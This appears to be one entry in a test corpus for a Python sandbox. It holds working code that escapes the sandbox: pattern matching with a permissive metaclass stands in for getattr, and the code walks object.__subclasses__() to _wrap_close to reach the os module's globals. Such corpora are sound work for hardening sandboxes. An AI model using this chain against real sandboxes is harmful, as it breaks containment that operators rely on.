# technique: positional class pattern as getattr: a metaclass whose __instancecheck__ accepts anything and __match_args__ = ('__subclasses__',), then walk to _wrap_close; no dunder appears as an attribute
# source: Python 3.10 pattern matching: MATCH_CLASS reads __match_args__ names with getattr (sandbox write-ups on match statements)

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

class AnyMeta(type):
    def __instancecheck__(cls, obj):
        return True


def ga(obj, name):
    class P(metaclass=AnyMeta):
        __match_args__ = (name,)
    match obj:
        case P(v):
            return v
    raise AttributeError(name)


def walk():
    for c in ga(object, '__subclasses__')():
        if c.__name__ == '_wrap_close':
            return ga(ga(c, '__init__'), '__globals__')
    raise LookupError('no _wrap_close')

attempt('match-args getattr -> _wrap_close globals', walk)
